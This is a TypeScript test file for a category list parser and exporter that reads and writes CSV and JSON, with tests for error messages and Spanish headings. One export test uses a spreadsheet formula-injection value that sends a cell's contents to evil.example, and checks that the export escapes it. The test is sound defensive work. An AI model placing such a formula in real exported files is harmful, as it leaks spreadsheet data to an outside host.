import { afterEach, describe, expect, it } from 'vitest';
import { applyLanguage } from '../../../../src/i18n';
import {
  categoriesCsv,
  categoriesFileName,
  categoriesJson,
  parseCategoryFile,
} from '../../../../src/categories/category-file';

const MAX = '9223372036854775807';

function listOf(text: string) {
  const parsed = parseCategoryFile(text);
  if (!parsed.ok) throw new Error(parsed.problems.join('\n'));
  return parsed.list;
}

function problemsOf(text: string): string[] {
  const parsed = parseCategoryFile(text);
  if (parsed.ok) throw new Error('expected problems');
  return parsed.problems;
}

describe('reading CSV', () => {
  it('reads number and name columns by their header, in any case and order, other columns aside', () => {
    expect(listOf('Name,Notes,Category ID\r\nDog,barks,2\r\n"Cat, domestic",,3\r\n')).toEqual([
      { id: '2', name: 'Dog' },
      { id: '3', name: 'Cat, domestic' },
    ]);
    expect(listOf('NUMBER;NAME\n007;Chèvre\n')).toEqual([{ id: '7', name: 'Chèvre' }]);
    expect(listOf('id\tname\n2\tDog\n')).toEqual([{ id: '2', name: 'Dog' }]);
    expect(listOf('category_id,category\n2,Dog\n')).toEqual([{ id: '2', name: 'Dog' }]);
  });

  it('reads two columns without a header, number first or second, and skips empty lines', () => {
    expect(listOf('2,Dog\n\n3,Cat\n')).toEqual([
      { id: '2', name: 'Dog' },
      { id: '3', name: 'Cat' },
    ]);
    expect(listOf('Dog,2\nCat,3')).toEqual([
      { id: '2', name: 'Dog' },
      { id: '3', name: 'Cat' },
    ]);
  });

  it('keeps 64-bit numbers exact and skips the byte-order mark', () => {
    expect(listOf(`\uFEFFnumber,name\n${MAX},Big one\n`)).toEqual([{ id: MAX, name: 'Big one' }]);
  });

  it('names every row at fault by its row number, and uses nothing of the file', () => {
    expect(problemsOf('number,name\n2,Dog\nx,Cat\n,Hen\n2,Hound\n5,dog\n6,\n')).toEqual([
      'Row 4: the number is missing.',
      'Row 3: \u201cx\u201d is not a category number.',
      'Row 5: Category number 2 is listed twice.',
      'Row 6: The name \u201cdog\u201d is used twice.',
      'Row 7: A category needs a name.',
    ]);
  });

  it('says which column is missing, or that the first row says neither', () => {
    expect(problemsOf('number,notes\n2,x\n')).toEqual([
      'The first row names the columns, but none of them is \u201cname\u201d.',
    ]);
    expect(problemsOf('name,notes\nDog,x\n')).toEqual([
      'The first row names the columns, but none of them is \u201cnumber\u201d.',
    ]);
    expect(problemsOf('Dog,Cat\nHen,Rabbit\n')[0]).toMatch(
      /^The first row has neither column names nor a category number\./,
    );
    expect(problemsOf('2\n3\n')[0]).toMatch(/^Each row needs a number and a name\./);
  });

  it('refuses an empty file, a header alone, and a quotation mark left open', () => {
    expect(problemsOf('  \n \n')).toEqual(['This file is empty.']);
    expect(problemsOf('number,name\n')[0]).toMatch(/^This file has no categories in it\./);
    expect(problemsOf('number,name\n2,"Dog\n')).toContain('Row 2: a quotation mark is not closed.');
  });

  it('lists at most ten problems and counts the rest', () => {
    const rows = Array.from({ length: 13 }, (_, i) => `x${i},Name ${i}`).join('\n');
    const problems = problemsOf(`number,name\n${rows}`);
    expect(problems).toHaveLength(11);
    expect(problems[10]).toBe('\u2026and 3 more problems.');
  });
});

describe('reading JSON', () => {
  it('reads a list of {number|id, name} with numbers as strings or numbers, exactly', () => {
    expect(
      listOf(
        `[{"number": "2", "name": "Dog"}, {"ID": 3, "Name": "Cat"}, {"id": ${MAX}, "name": "Big"}]`,
      ),
    ).toEqual([
      { id: '2', name: 'Dog' },
      { id: '3', name: 'Cat' },
      { id: MAX, name: 'Big' },
    ]);
    expect(listOf('[["5", "Hen"]]')).toEqual([{ id: '5', name: 'Hen' }]);
  });

  it('reads an object from number to name', () => {
    expect(listOf(' {"2": "Dog", "007": "Chèvre"}')).toEqual([
      { id: '2', name: 'Dog' },
      { id: '7', name: 'Chèvre' },
    ]);
  });

  it('names each item at fault', () => {
    expect(
      problemsOf(
        '[{"number": "2", "name": "Dog"}, {"name": "Cat"}, 4, {"id": 2.5, "name": "Hen"}]',
      ),
    ).toEqual([
      'Item 2: the number is missing.',
      'Item 3 is not a category (it needs a number and a name).',
      'Item 4: \u201c2.5\u201d is not a whole number: a category number has no decimals, such as 2.',
    ]);
    expect(problemsOf('{"2": "Dog", "3": 4}')).toEqual([
      'Number \u201c3\u201d: the name is not text.',
    ]);
    expect(problemsOf('{"2": "Dog", "2": "Cat"}')).toEqual(['\u201c2\u201d is listed twice.']);
  });

  it('says plainly when the JSON is broken or holds no list', () => {
    expect(problemsOf('[{"number": "2",')[0]).toMatch(
      /^This file starts like JSON but is not valid JSON/,
    );
    expect(problemsOf('[]')[0]).toMatch(/^This file has no categories in it\./);
  });
});

describe('writing', () => {
  const list = [
    { id: '10', name: 'Rabbit' },
    { id: '2', name: 'Dog, large' },
    { id: MAX, name: 'Chèvre' },
  ];

  it('writes CSV with a number,name header, by number, every cell quoted', () => {
    expect(categoriesCsv(list)).toBe(
      `\uFEFF"number","name"\r\n"2","Dog, large"\r\n"10","Rabbit"\r\n"${MAX}","Chèvre"\r\n`,
    );
    expect(categoriesCsv([])).toBe('\uFEFF"number","name"\r\n');
  });

  it('escapes a name a spreadsheet would run as a formula, with a leading quote', () => {
    const hostile = [
      { id: '2', name: '=HYPERLINK("https://evil.example/?leak="&A1,"Dog")' },
      { id: '3', name: '@SUM(1+1)' },
    ];
    expect(categoriesCsv(hostile)).toBe(
      '\uFEFF"number","name"\r\n' +
        '"2","\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Dog"")"\r\n' +
        '"3","\'@SUM(1+1)"\r\n',
    );
  });

  it('reads an escaped name back as it was before the export escaped it', () => {
    const names = [
      { id: '2', name: '=HYPERLINK("x")' },
      { id: '3', name: '+1 Senior' },
      { id: '4', name: '-Puppy' },
      { id: '5', name: '@SUM(1+1)' },
      { id: '6', name: "'=already quoted" },
      { id: '7', name: "'quoted" },
      { id: '8', name: "O'Malley" },
    ];
    expect(listOf(categoriesCsv(names))).toEqual(names);
  });

  it('takes the quote off a formula-like name in a CSV made elsewhere, and nothing else', () => {
    expect(listOf("number,name\n2,'-Senior\n3,'Tiny\n")).toEqual([
      { id: '2', name: '-Senior' },
      { id: '3', name: "'Tiny" },
    ]);
  });

  it('writes JSON with numbers as strings, by number', () => {
    expect(JSON.parse(categoriesJson(list))).toEqual([
      { number: '2', name: 'Dog, large' },
      { number: '10', name: 'Rabbit' },
      { number: MAX, name: 'Chèvre' },
    ]);
  });

  it('reads back what it writes, in either format', () => {
    const sorted = [list[1], list[0], list[2]];
    expect(listOf(categoriesCsv(list))).toEqual(sorted);
    expect(listOf(categoriesJson(list))).toEqual(sorted);
  });

  it('names the file after the profile', () => {
    expect(categoriesFileName('staging', 'json')).toBe('kennel-staging-categories.json');
  });
});

describe('in Spanish', () => {
  afterEach(() => applyLanguage('en'));

  it('reads Spanish column names, with or without accents', () => {
    expect(listOf('N\u00famero,Nombre\n2,Perro\n')).toEqual([{ id: '2', name: 'Perro' }]);
    expect(listOf('nombre;numero\nGato;3\n')).toEqual([{ id: '3', name: 'Gato' }]);
    expect(listOf('[{"numero": "4", "nombre": "Conejo"}]')).toEqual([{ id: '4', name: 'Conejo' }]);
  });

  it('writes its CSV headings in Spanish, which read back', async () => {
    await applyLanguage('es');
    const csv = categoriesCsv([{ id: '2', name: 'Perro' }]);
    expect(csv).toBe('\uFEFF"numero","nombre"\r\n"2","Perro"\r\n');
    expect(listOf(csv)).toEqual([{ id: '2', name: 'Perro' }]);
    expect(problemsOf('numero,nombre\nx,Gato\n')).toEqual([
      'Fila 2: \u00abx\u00bb no es un n\u00famero de categor\u00eda.',
    ]);
  });
});
